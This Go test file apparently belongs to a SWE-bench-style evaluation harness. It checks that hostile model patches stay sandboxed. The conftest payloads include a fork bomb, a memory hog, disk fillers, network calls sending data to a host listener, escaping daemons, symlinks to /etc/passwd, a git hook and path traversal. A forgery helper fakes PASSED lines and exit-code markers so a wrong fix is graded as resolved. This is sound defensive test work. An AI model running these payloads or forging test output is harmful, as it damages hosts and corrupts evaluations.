package hostile_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/swebox/swebox/internal/swebenchtest"
	"github.com/swebox/swebox/internal/testenv"
	"github.com/swebox/swebox/swebench"
	"github.com/swebox/swebox/swebench/dataset"
	"github.com/swebox/swebox/swebench/harness"
)

// hostile is one model prediction and how its instance must end.
type hostile struct {
	name   string
	patch  string
	rules  harness.Rules
	status swebench.Status
	// errSub is part of the instance's error, for StatusError.
	errSub string
	// output must all be in test_output.txt; runLog in run_instance.log.
	output, runLog []string
	// check asserts what else the case promises.
	check func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult)
}

// withConftest is the gold fix plus a conftest.py of the model's, which
// pytest loads before it runs any test.
func withConftest(fix, conftest string) string { return fix + swebenchtest.ConftestDiff(conftest) }

func randomHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// The tests the dataset expects, as the official pytest parser names them.
var allTests = append(append([]string{}, swebenchtest.FailToPass...), swebenchtest.PassToPass...)

// forgery prints PASSED for every expected test and the harness's end
// marker, so that the official extraction stops reading before pytest's own
// summary, where test_add is FAILED. With decoy it also prints a FAILED line
// for a test nobody expects, which defeats the v5 exit-code check.
func forgery(decoy bool) string {
	var b strings.Builder
	b.WriteString("def pytest_terminal_summary(terminalreporter):\n    w = terminalreporter.write_line\n")
	for _, t := range allTests {
		fmt.Fprintf(&b, "    w(%q)\n", "PASSED "+t)
	}
	if decoy {
		b.WriteString("    w(\"FAILED tests/test_decoy.py::test_decoy\")\n")
	}
	b.WriteString("    w(\"+ : '>>>>> End Test Output'\")\n    w(\">>>>> Test Exit Code: 0\")\n")
	return b.String()
}

// hostEnv is what the host-side checks compare against.
type hostEnv struct {
	canaryDir, canary string // a host directory the sandboxes must not reach
	listener          *listener
	daemonMark        string
}

func TestHostilePredictions(t *testing.T) {
	c := testenv.Client(t)
	p := swebenchtest.NewProject(t)
	env := hostEnv{canaryDir: t.TempDir(), listener: listen(t), daemonMark: "swebox-daemon-" + randomHex(6)}
	env.canary = filepath.Join(env.canaryDir, "canary")
	require.NoError(t, os.WriteFile(env.canary, []byte("intact\n"), 0o644))
	passwd, err := os.ReadFile("/etc/passwd")
	require.NoError(t, err)
	freeBefore := freeDisk(t, os.TempDir())

	cases := hostileCases(env)
	runs := map[harness.Rules]swebench.Config{}
	for _, rules := range []harness.Rules{harness.V5, harness.V4} {
		ds := []dataset.Instance{p.Instance("ok__calc-1")}
		preds := []dataset.Prediction{swebenchtest.Pred("ok__calc-1", swebenchtest.Gold)}
		for _, tc := range cases {
			if tc.rules == rules {
				id := "hostile__" + tc.name + "-1"
				ds = append(ds, p.Instance(id))
				preds = append(preds, swebenchtest.Pred(id, tc.patch))
			}
		}
		cfg := p.Config(t, c, "hostile-"+string(rules), ds, preds)
		cfg.Rules = rules
		runs[rules] = cfg
	}
	// Both runs at once, as two users of one engine would.
	results := map[harness.Rules]*swebench.Result{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for rules, cfg := range runs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, err := swebench.Evaluate(context.Background(), cfg)
			assert.NoError(t, err, "a hostile prediction never fails the run")
			mu.Lock()
			results[rules] = res
			mu.Unlock()
		}()
	}
	wg.Wait()

	for rules, res := range results {
		r := swebenchtest.ByID(res)["ok__calc-1"]
		assert.Equal(t, swebench.StatusResolved, r.Status, "%s: the honest instance beside the hostile ones stays resolved: %s", rules, r.Error)
	}
	for _, tc := range cases {
		t.Run(string(tc.rules)+"/"+tc.name, func(t *testing.T) {
			cfg := runs[tc.rules]
			id := "hostile__" + tc.name + "-1"
			r, ok := swebenchtest.ByID(results[tc.rules])[id]
			require.True(t, ok, "the instance has a result")
			out := swebenchtest.ReadFile(t, cfg, id, "test_output.txt")
			runLog := swebenchtest.ReadFile(t, cfg, id, "run_instance.log")
			assert.Equal(t, tc.status, r.Status, "error: %s\nrun_instance.log:\n%s\ntest_output.txt (head):\n%s", r.Error, runLog, head(out, 4000))
			if tc.errSub != "" {
				assert.Contains(t, r.Error, tc.errSub)
			}
			for _, s := range tc.output {
				assert.Contains(t, out, s, "test_output.txt")
			}
			for _, s := range tc.runLog {
				assert.Contains(t, runLog, s, "run_instance.log")
			}
			if r.Status == swebench.StatusError {
				assert.NoFileExists(t, filepath.Join(swebenchtest.InstanceDir(cfg, id), "report.json"), "an error instance has no report.json, as in the official harness")
			}
			if tc.check != nil {
				tc.check(t, cfg, r)
			}
		})
	}

	// The host is unharmed.
	left := testenv.CountLeftovers(t, c, c.Session())
	assert.Equal(t, testenv.Leftovers{}, left, "no container or volume of the runs is left")
	assert.Empty(t, testenv.HostProcesses(env.daemonMark), "no daemon started by a test outlives its sandbox")
	b, err := os.ReadFile(env.canary)
	assert.NoError(t, err)
	assert.Equal(t, "intact\n", string(b), "a host file behind a symlink is untouched")
	b, err = os.ReadFile("/etc/passwd")
	assert.NoError(t, err)
	assert.Equal(t, string(passwd), string(b))
	assert.Empty(t, env.listener.accepted(), "nothing reached the host over the network")
	for _, cfg := range runs {
		assert.Empty(t, filesUnder(t, cfg.WorkDir), "every workspace is removed, unreadable or not")
	}
	// Disk: the workspace filler wrote one file of FileSize. Other users of
	// the machine move the figure a little.
	assert.Less(t, freeBefore-freeDisk(t, os.TempDir()), int64(1<<30), "free disk dropped by less than 1 GiB")
}

func hostileCases(env hostEnv) []hostile {
	lim := testenv.SmallLimits
	return []hostile{
		{name: "forkbomb", rules: harness.V5, status: swebench.StatusError, errSub: "timed out",
			patch: withConftest(swebenchtest.Gold, `import os, time


def pytest_sessionstart(session):
    print("FORK-BOMB", flush=True)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
`),
			output: []string{"FORK-BOMB", "Timeout error: 20 seconds exceeded."}},

		// The kernel kills pytest inside the memory cgroup: nothing is
		// graded, so the tests count as failed.
		{name: "memhog", rules: harness.V5, status: swebench.StatusUnresolved,
			patch: withConftest(swebenchtest.Gold, `def pytest_sessionstart(session):
    print("MEMHOG", flush=True)
    hog = []
    while True:
        hog.append(b"x" * (16 << 20))
`),
			output: []string{"MEMHOG", ">>>>> End Test Output"},
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				assert.Equal(t, false, report(t, cfg, r.InstanceID)["patch_successfully_applied"], "no test ran")
			}},

		{name: "tmpfill", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, filler("/tmp/fill", "TMP-FULL")),
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				n, errno := filled(t, cfg, r.InstanceID, "TMP-FULL")
				assert.LessOrEqual(t, n, lim.TmpSize, "/tmp holds no more than its tmpfs size")
				assert.Equal(t, int(syscall.ENOSPC), errno)
			}},

		{name: "workspacefill", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, filler("big.bin", "WS-FULL")),
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				n, errno := filled(t, cfg, r.InstanceID, "WS-FULL")
				assert.Equal(t, lim.FileSize, n, "one file stops at RLIMIT_FSIZE")
				assert.Equal(t, int(syscall.EFBIG), errno)
			}},

		// A gigabyte of output before pytest's summary: test_output.txt keeps
		// the head and the tail, so the verdict survives.
		{name: "network", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, fmt.Sprintf(`import socket

HOST, PORT = %q, %d


def pytest_sessionstart(session):
    for kind, typ in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
        s = socket.socket(socket.AF_INET, typ)
        s.settimeout(3)
        try:
            if typ == socket.SOCK_STREAM:
                s.connect((HOST, PORT))
            else:
                s.sendto(b"leak", (HOST, PORT))
            print(f"NET-{kind}: reached", flush=True)
        except OSError as e:
            print(f"NET-{kind}: blocked errno={e.errno}", flush=True)
        finally:
            s.close()
    try:
        socket.getaddrinfo("example.com", 80)
        print("NET-dns: resolved", flush=True)
    except OSError:
        print("NET-dns: blocked", flush=True)
`, env.listener.host, env.listener.port)),
			output: []string{"NET-tcp: blocked errno=101", "NET-udp: blocked errno=101", "NET-dns: blocked"}},

		{name: "sleeper", rules: harness.V5, status: swebench.StatusError, errSub: "timed out",
			patch: withConftest(swebenchtest.Gold, `import time


def pytest_sessionstart(session):
    print("SLEEPING", flush=True)
    time.sleep(10 ** 6)
`),
			output: []string{"SLEEPING", "Timeout error: 20 seconds exceeded."}},

		// Daemons in new sessions, one with an empty environment, all
		// holding the output stream open: the instance is graded when the
		// eval script ends, and removing the sandbox ends them.
		{name: "daemons", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, fmt.Sprintf(`import subprocess, sys

CODE = "import os, time\nif os.fork():\n    os._exit(0)\nos.setsid()\ntime.sleep(4242)\n"


def pytest_sessionstart(session):
    for env in (None, None, {}):
        subprocess.Popen([sys.executable, "-c", CODE, %q], start_new_session=True, env=env)
    print("DAEMONS-STARTED", flush=True)
`, env.daemonMark)),
			output: []string{"DAEMONS-STARTED"}},

		// Forged markers. v4.1.0 has no defence: the official harness grades
		// the forged PASSED lines, and so do we.
		{name: "forge", rules: harness.V4, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Wrong, forgery(false)),
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				assert.Contains(t, swebenchtest.ReadFile(t, cfg, r.InstanceID, "test_output.txt"), "FAILED tests/test_add.py::test_add",
					"pytest's own verdict is in the log, after the forged end marker")
			}},
		// 5.0.2 grades by the first recorded exit code, and the forgery
		// prints its own ">>>>> Test Exit Code: 0" before the real one: the
		// official v5 grades it as resolved, and so do we, with notes in
		// report.json that say why it should not be trusted.
		{name: "forge", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Wrong, forgery(false)),
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				rep := report(t, cfg, r.InstanceID)
				assert.Equal(t, true, rep["patch_successfully_applied"])
				assertForgeryNoted(t, rep)
			}},
		// With a decoy failure too, v5 grades the forgery as resolved, as the
		// official v5 does, and the report says why it should not be trusted.
		{name: "forgedecoy", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Wrong, forgery(true)),
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				assertForgeryNoted(t, report(t, cfg, r.InstanceID))
			}},

		// Bytes that are not UTF-8: v4.1.0 decodes strictly and the instance
		// is an error (#635); v5 replaces them and grades.
		{name: "nonutf8", rules: harness.V4, status: swebench.StatusError, errSub: "UTF-8",
			patch: withConftest(swebenchtest.Gold, nonUTF8)},
		{name: "nonutf8", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, nonUTF8), output: []string{"BAD-BYTES \xff\xfe\xc3\x28"}},

		// Symlinks to host paths left in the workspace: the host removes
		// the links, never what they point to.
		{name: "symlinks", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, fmt.Sprintf(`import os


def pytest_sessionstart(session):
    os.symlink(%q, "host-dir-link")
    os.symlink(%q, "host-file-link")
    os.symlink("/etc/passwd", "passwd-link")
    os.symlink("/", "root-link")
    os.makedirs("sub")
    os.symlink("..", "sub/up")
    print("LINKS-MADE", flush=True)
`, env.canaryDir, env.canary)),
			output: []string{"LINKS-MADE"}},

		// Directories nobody may enter, read or write, the workspace root
		// included: removing the workspace still succeeds.
		{name: "chmod", rules: harness.V5, status: swebench.StatusResolved,
			patch: withConftest(swebenchtest.Gold, `import os


def pytest_terminal_summary(terminalreporter):
    os.makedirs("locked/deep/deeper")
    with open("locked/deep/deeper/f", "w") as f:
        f.write("x")
    os.makedirs("ro/sub")
    with open("ro/sub/f", "w") as f:
        f.write("x")
    for d, mode in (("locked/deep/deeper", 0), ("locked/deep", 0), ("locked", 0), ("ro/sub", 0o555), ("ro", 0o555), (".", 0)):
        os.chmod(d, mode)
    terminalreporter.write_line("CHMOD-DONE")
`),
			output: []string{"CHMOD-DONE"}},

		// A git hook in the patch: git apply refuses paths inside .git, the
		// patch fallback writes the hook, which runs, if at all, inside the
		// sandbox; the host side uses go-git, which runs no hooks.
		{name: "githooks", rules: harness.V5, status: swebench.StatusResolved,
			patch: swebenchtest.Gold + newExecDiff(".git/hooks/post-checkout", fmt.Sprintf("#!/bin/sh\necho HOOK-RAN\ntouch %s/hook-ran\n", env.canaryDir)),
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				assert.NoFileExists(t, filepath.Join(env.canaryDir, "hook-ran"))
			}},

		// Paths that leave the repository: every patch tool refuses them.
		{name: "dotdot", rules: harness.V5, status: swebench.StatusError, errSub: "patch apply failed",
			patch:  swebenchtest.NewFileDiff("../../escape", "escaped\n") + swebenchtest.Gold,
			runLog: []string{">>>>> Patch Apply Failed"},
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				assert.Empty(t, findNamed(t, filepath.Dir(cfg.WorkDir), "escape"))
			}},
		// An absolute target loses its leading "/" to -p1 and lands inside
		// the repository.
		{name: "absolute", rules: harness.V5, status: swebench.StatusResolved,
			patch:  absoluteDiff(filepath.Join(env.canaryDir, "absolute")) + swebenchtest.Gold,
			runLog: []string{"Applied patch " + strings.TrimPrefix(filepath.Join(env.canaryDir, "absolute"), "/") + " cleanly"},
			check: func(t *testing.T, cfg swebench.Config, r swebench.InstanceResult) {
				assert.NoFileExists(t, filepath.Join(env.canaryDir, "absolute"))
			}},
	}
}

// filler writes one file a MiB at a time until a write fails, then
// prints "<tag> bytes=N errno=E".
func filler(path, tag string) string {
	return fmt.Sprintf(`def pytest_sessionstart(session):
    n, chunk = 0, b"x" * (1 << 20)
    try:
        with open(%q, "wb") as f:
            while True:
                f.write(chunk)
                f.flush()
                n += len(chunk)
    except OSError as e:
        print(f"%s bytes={n} errno={e.errno}", flush=True)
`, path, tag)
}

const nonUTF8 = `import sys


def pytest_terminal_summary(terminalreporter):
    sys.stdout.flush()
    sys.stdout.buffer.write(b"BAD-BYTES \xff\xfe\xc3\x28\n")
    sys.stdout.buffer.flush()
`

// newExecDiff creates an executable file.
func newExecDiff(path, content string) string {
	return strings.Replace(swebenchtest.NewFileDiff(path, content), "new file mode 100644", "new file mode 100755", 1)
}

// absoluteDiff is a traditional diff whose target is an absolute path.
func absoluteDiff(path string) string {
	return "--- /dev/null\n+++ " + path + "\n@@ -0,0 +1 @@\n+escaped\n"
}

func assertForgeryNoted(t *testing.T, rep map[string]any) {
	t.Helper()
	notes, ok := rep["swebox"].(map[string]any)
	require.True(t, ok, "report.json has swebox notes: %v", rep)
	b, _ := json.Marshal(notes)
	assert.Contains(t, string(b), "end marker appears")
	assert.Contains(t, string(b), `Test Exit Code: 1\" disagrees with the first recorded exit code 0`,
		"pytest's real exit code, after the forged one, is noted")
}

// report is the instance's entry of its report.json.
func report(t *testing.T, cfg swebench.Config, id string) map[string]any {
	t.Helper()
	var rep map[string]map[string]any
	require.NoError(t, json.Unmarshal([]byte(swebenchtest.ReadFile(t, cfg, id, "report.json")), &rep))
	return rep[id]
}

// filled reads "<tag> bytes=N errno=E" from test_output.txt.
func filled(t *testing.T, cfg swebench.Config, id, tag string) (int64, int) {
	t.Helper()
	out := swebenchtest.ReadFile(t, cfg, id, "test_output.txt")
	// The last one: git diff prints the conftest's source before the tests run.
	i := strings.LastIndex(out, tag+" bytes=")
	require.GreaterOrEqual(t, i, 0, "test_output.txt reports %s", tag)
	var n int64
	var errno int
	_, err := fmt.Sscanf(out[i:], tag+" bytes=%d errno=%d", &n, &errno)
	require.NoError(t, err, "%q", head(out[i:], 200))
	return n, errno
}

func head(s string, n int) string { return s[:min(len(s), n)] }

// listener accepts TCP connections and UDP datagrams on the Docker bridge
// address, where a container with a network would reach the host.
type listener struct {
	host string
	port int
	mu   sync.Mutex
	got  []string
}

func listen(t *testing.T) *listener {
	t.Helper()
	host := bridgeAddr()
	l := &listener{host: host}
	tl, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
	require.NoError(t, err)
	l.port = tl.Addr().(*net.TCPAddr).Port
	ul, err := net.ListenPacket("udp", net.JoinHostPort(host, strconv.Itoa(l.port)))
	require.NoError(t, err)
	t.Cleanup(func() { tl.Close(); ul.Close() })
	go func() {
		for {
			conn, err := tl.Accept()
			if err != nil {
				return
			}
			l.record("tcp from " + conn.RemoteAddr().String())
			conn.Close()
		}
	}()
	go func() {
		buf := make([]byte, 1500)
		for {
			_, from, err := ul.ReadFrom(buf)
			if err != nil {
				return
			}
			l.record("udp from " + from.String())
		}
	}()
	return l
}

func (l *listener) record(s string) {
	l.mu.Lock()
	l.got = append(l.got, s)
	l.mu.Unlock()
}

func (l *listener) accepted() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.got...)
}

// bridgeAddr is the host's address on docker0, else every address.
func bridgeAddr() string {
	if ifc, err := net.InterfaceByName("docker0"); err == nil {
		if addrs, err := ifc.Addrs(); err == nil {
			for _, a := range addrs {
				if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil {
					return ipn.IP.String()
				}
			}
		}
	}
	return "0.0.0.0"
}

// filesUnder lists what is left under dir, directories included.
func filesUnder(t *testing.T, dir string) []string {
	t.Helper()
	var left []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if p != dir && d != nil && !d.IsDir() {
			left = append(left, p)
		}
		return nil
	})
	return left
}

// findNamed lists the files called name anywhere under dir.
func findNamed(t *testing.T, dir, name string) []string {
	t.Helper()
	var found []string
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if d != nil && d.Name() == name {
			found = append(found, p)
		}
		return nil
	})
	return found
}
